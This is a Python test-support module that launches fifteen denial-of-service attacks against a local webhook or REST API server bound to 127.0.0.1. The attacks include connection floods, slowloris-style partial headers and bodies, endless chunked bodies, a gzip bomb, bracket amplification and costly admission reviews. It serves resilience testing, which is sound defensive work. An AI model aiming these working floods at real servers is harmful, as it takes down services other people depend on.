"""Attacks on a server, each in a process of its own: `python attacks.py NAME PORT CA TARGET`.

The webhook server and the REST API's server are attacked alike; what is sent to the one as a review is sent
to the other as a package.

An attacker prints a line when its attack stands, goes on until its standard input is closed, and is bounded
in what it sends and in time. It attacks 127.0.0.1 and nothing else.
"""

from __future__ import annotations

import asyncio
import contextlib
import gzip
import json
import ssl
import subprocess
import sys
from collections.abc import Awaitable, Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

__all__ = ["ATTACKS", "TARGETS", "attacking", "large_review"]

MEGABYTE = 1_000_000
SECONDS = 120.0


@dataclass(frozen=True, kw_only=True)
class Target:
    """What is attacked.

    Attributes:
        path: Where bodies are sent.
        content_type: Their content type.
        before: What stands before a body.
        after: What stands behind it.
    """

    path: str
    content_type: str
    before: bytes = b""
    after: bytes = b""

    def body(self, content: bytes) -> bytes:
        return self.before + content + self.after


TARGETS = {
    "webhook": Target(path="/webhooks/validate-pipelineversion", content_type="application/json"),
    "apiserver": Target(
        path="/apis/v2beta1/pipelines/upload?name=attack",
        content_type="multipart/form-data; boundary=limit",
        before=b"--limit\r\nContent-Disposition: form-data; name=uploadfile; filename=a.yaml\r\n\r\n",
        after=b"\r\n--limit--\r\n",
    ),
}
_target = TARGETS["webhook"]

Stream = tuple[asyncio.StreamReader, asyncio.StreamWriter]
Connect = Callable[..., Awaitable[Stream]]

# What goes on, and stays open, as long as the attack does.
_KEPT: list[asyncio.Future[Any]] = []
_KEPT_STREAMS: list[Stream] = []


def head(size: int | None, *fields: str) -> bytes:
    """Return the head of a POST request."""
    length = "Transfer-Encoding: chunked" if size is None else f"Content-Length: {size}"
    kind = f"Content-Type: {_target.content_type}"
    lines = [f"POST {_target.path} HTTP/1.1", "Host: a", kind, length, *fields]
    return "\r\n".join([*lines, "", ""]).encode()


def large_review(size: int, filling: str = "", spec: dict[str, Any] | None = None) -> bytes:
    """Return a review of a size, padded by a long string, or by a text in place of a JSON list."""
    group = {"group": "pipelines.kubeflow.org", "version": "v2beta1", "kind": "PipelineVersion"}
    request = {"uid": "1", "kind": group, "operation": "CREATE", "namespace": "team-a"}
    obj = {"metadata": {"name": "v"}, "spec": {"pipelineSpec": "@", **(spec or {})}}
    review = {"kind": "AdmissionReview", "apiVersion": "admission.k8s.io/v1"}
    text = json.dumps({**review, "request": {**request, "object": obj}})
    room = size - len(text)
    if filling:
        text = text.replace('"@"', f"[{','.join([filling] * (room // (len(filling) + 1)))}]")
    return text.replace("@", "x" * room).encode()


def components(count: int) -> bytes:
    """Return a valid review with many empty components: few bytes that make many findings."""
    found = ",".join(f'"c{number}":{{}}' for number in range(count))
    spec = f'{{"components":{{{found}}},"root":{{"dag":{{"tasks":{{}}}}}},"schemaVersion":"2.1.0"'
    spec += ',"pipelineInfo":{"name":"x"}}'
    return large_review(0).replace(b'"pipelineSpec": ""', f'"pipelineSpec": {spec}'.encode())


async def _many(count: int, connect: Connect, **options: Any) -> list[Stream]:
    """Open many connections, as quickly as it goes; those that are refused are left out."""
    gate = asyncio.Semaphore(64)

    async def one() -> Stream | None:
        async with gate:
            with contextlib.suppress(OSError, asyncio.TimeoutError):
                return await asyncio.wait_for(connect(**options), 20)
        return None

    return [stream for stream in await asyncio.gather(*(one() for _ in range(count))) if stream]


async def _send(streams: list[Stream], data: bytes) -> None:
    """Send the same on all, and do not wait for who does not listen."""

    async def one(writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(OSError):
            writer.write(data)
            await writer.drain()

    tasks = [asyncio.ensure_future(one(writer)) for _, writer in streams]
    await asyncio.wait(tasks, timeout=5)
    _KEPT.extend(tasks)


def _go_on(attack: Awaitable[Any]) -> None:
    _KEPT.append(asyncio.ensure_future(attack))


async def _requests(connect: Connect, count: int, body: bytes, *fields: str) -> None:
    """Send the same request on many connections at a time, on each again when it was answered."""
    body = _target.body(body)
    data = head(len(body), *fields) + body

    async def one() -> None:
        while True:
            with contextlib.suppress(OSError, asyncio.IncompleteReadError):
                reader, writer = await connect(tls=True)
                writer.write(data)
                await reader.read(100)
                writer.close()
            await asyncio.sleep(0.1)

    await asyncio.gather(*(one() for _ in range(count)))


async def silent(connect: Connect) -> None:
    """3,000 TCP connections that do not send a byte."""
    _KEPT_STREAMS.extend(await _many(3000, connect))


async def idle(connect: Connect) -> None:
    """3,000 TLS connections that do not send a request."""
    _KEPT_STREAMS.extend(await _many(3000, connect, tls=True))


async def half_handshakes(connect: Connect) -> None:
    """1,000 connections that begin a TLS handshake and go no further."""
    streams = await _many(1000, connect)
    await _send(streams, b"\x16\x03\x01\x02\x00\x01")
    _KEPT_STREAMS.extend(streams)


async def half_heads(connect: Connect) -> None:
    """500 connections that send half a head."""
    streams = await _many(500, connect, tls=True)
    await _send(streams, head(7 * MEGABYTE)[:-20])
    _KEPT_STREAMS.extend(streams)


async def endless_heads(connect: Connect) -> None:
    """300 connections whose head does not end; empty lines stand before it."""
    streams = await _many(300, connect, tls=True)
    line = b"X-Some-Header: " + b"x" * 8000 + b"\r\n"
    await _send(streams, b"\r\n\r\n" + head(0)[:-2] + line * 500)
    _KEPT_STREAMS.extend(streams)


async def large_bodies(connect: Connect) -> None:
    """200 reviews of 7 MB at a time."""
    _go_on(_requests(connect, 200, large_review(7 * MEGABYTE)))
    await asyncio.sleep(0.5)


async def slow_bodies(connect: Connect) -> None:
    """300 bodies of 7 MB, of which half comes."""
    streams = await _many(300, connect, tls=True)
    await _send(streams, head(7 * MEGABYTE) + b" " * (3 * MEGABYTE))
    _KEPT_STREAMS.extend(streams)


async def endless_bodies(connect: Connect) -> None:
    """200 chunked bodies that do not end."""
    streams = await _many(200, connect, tls=True)
    chunk = b"100000\r\n" + b" " * 0x100000 + b"\r\n"
    await _send(streams, head(None) + chunk * 4)
    _KEPT_STREAMS.extend(streams)


async def confetti(connect: Connect) -> None:
    """200 chunked bodies in chunks of one byte."""
    streams = await _many(200, connect, tls=True)
    await _send(streams, head(None) + b"1\r\n \r\n" * 300_000)
    _KEPT_STREAMS.extend(streams)


async def gzip_bombs(connect: Connect) -> None:
    """50 bodies of 0.4 MB at a time that become 400 MB."""
    bomb = gzip.compress(b" " * (400 * MEGABYTE), 9)
    _go_on(_requests(connect, 50, bomb, "Content-Encoding: gzip"))
    await asyncio.sleep(0.5)


async def brackets(connect: Connect) -> None:
    """50 bodies of 7 MB at a time that become 200 MB when they are read."""
    _go_on(_requests(connect, 50, large_review(7 * MEGABYTE, '{"a":0}')))
    await asyncio.sleep(0.5)


async def many_values(connect: Connect) -> None:
    """50 reviews at a time that are costly to judge, within all limits."""
    _go_on(_requests(connect, 50, components(74_000)))
    await asyncio.sleep(0.5)


async def small_and_costly(connect: Connect) -> None:
    """150 small reviews at a time that are costly to judge."""
    _go_on(_requests(connect, 150, components(900)))
    await asyncio.sleep(0.5)


async def pipelining(connect: Connect) -> None:
    """100 connections with requests without end, whose answers nobody reads."""
    streams = await _many(100, connect, tls=True)
    await _send(streams, b"GET /healthz HTTP/1.1\r\nHost: a\r\n\r\n" * 50_000)
    _KEPT_STREAMS.extend(streams)


async def unread_answers(connect: Connect) -> None:
    """150 connections that ask for the metrics again and again, and read nothing."""
    streams = await _many(150, connect, tls=True)
    await _send(streams, b"GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n" * 2000)
    _KEPT_STREAMS.extend(streams)


ATTACKS: dict[str, Callable[[Connect], Awaitable[None]]] = {
    attack.__name__: attack
    for attack in (
        silent,
        idle,
        half_handshakes,
        half_heads,
        endless_heads,
        large_bodies,
        slow_bodies,
        endless_bodies,
        confetti,
        gzip_bombs,
        brackets,
        many_values,
        small_and_costly,
        pipelining,
        unread_answers,
    )
}


async def _main(name: str, port: int, authority: str, target: str) -> None:
    global _target
    _target = TARGETS[target]
    context = ssl.create_default_context(cafile=authority) if authority else None

    async def connect(*, tls: bool = False) -> Stream:
        return await asyncio.open_connection("127.0.0.1", port, ssl=context if tls else None)

    await ATTACKS[name](connect)
    print("attacking", flush=True)
    with contextlib.suppress(asyncio.TimeoutError):
        await asyncio.wait_for(asyncio.to_thread(sys.stdin.read), SECONDS)


@contextmanager
def attacking(name: str, port: int, authority: Path, target: str = "webhook") -> Iterator[None]:
    """Attack a server while the context lasts.

    Args:
        name: One of `ATTACKS`.
        port: The server's port on 127.0.0.1.
        authority: The file with the authority of its certificate; None for plain HTTP.
        target: What it is, of `TARGETS`.
    """
    attacker = subprocess.Popen(
        [sys.executable, __file__, name, str(port), str(authority or ""), target],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
    )
    try:
        assert attacker.stdout is not None
        assert attacker.stdout.readline() == b"attacking\n"
        yield
        assert attacker.poll() is None, "the attack has ended before the review was answered"
    finally:
        attacker.kill()
        attacker.communicate()


if __name__ == "__main__":
    import os

    # What is still open goes with the process.
    asyncio.new_event_loop().run_until_complete(
        _main(sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4])
    )
    os._exit(0)
